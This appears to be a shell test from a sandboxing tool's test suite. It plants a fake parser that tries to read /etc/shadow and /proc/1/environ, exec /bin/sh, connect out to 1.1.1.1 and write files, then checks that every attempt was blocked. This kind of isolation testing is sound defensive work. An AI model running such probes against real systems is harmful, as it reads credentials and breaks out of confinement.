cat >"$T/parsers/python.py" <<END
import os, socket
got = []
for path in ("$CALLGATE", "/etc/shadow", "/etc/profile", "/etc/ssl", "/proc/1/environ"):
    try:
        got.append(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10))
    except OSError:
        pass
for what in (lambda: socket.create_connection(("1.1.1.1", 53), 1), lambda: os.execv("/bin/sh", ["sh"]),
             lambda: open("/etc/callgate-written", "w"), lambda: open("$BUILD/callgate-written", "w")):
    try:
        got.append(what())
    except OSError:
        pass
print("1 import %s\nend 1" % (got or "nothing"))
END
[ "$(CALLGATE_PARSERS=$T/parsers cg inspect plain.py)" = "plain.py:1: import: nothing" ] ||
	fail "a parser reached: $(CALLGATE_PARSERS=$T/parsers cg inspect plain.py)"
if [ -e /etc/callgate-written ] || [ -e "$BUILD/callgate-written" ]; then
	fail "a parser wrote a file"
fi
kept=$(find "$TMPDIR/callgate-$(id -u)/results" -type f 2>/dev/null)
[ -z "$kept" ] || fail "output of parsers is kept: $kept"
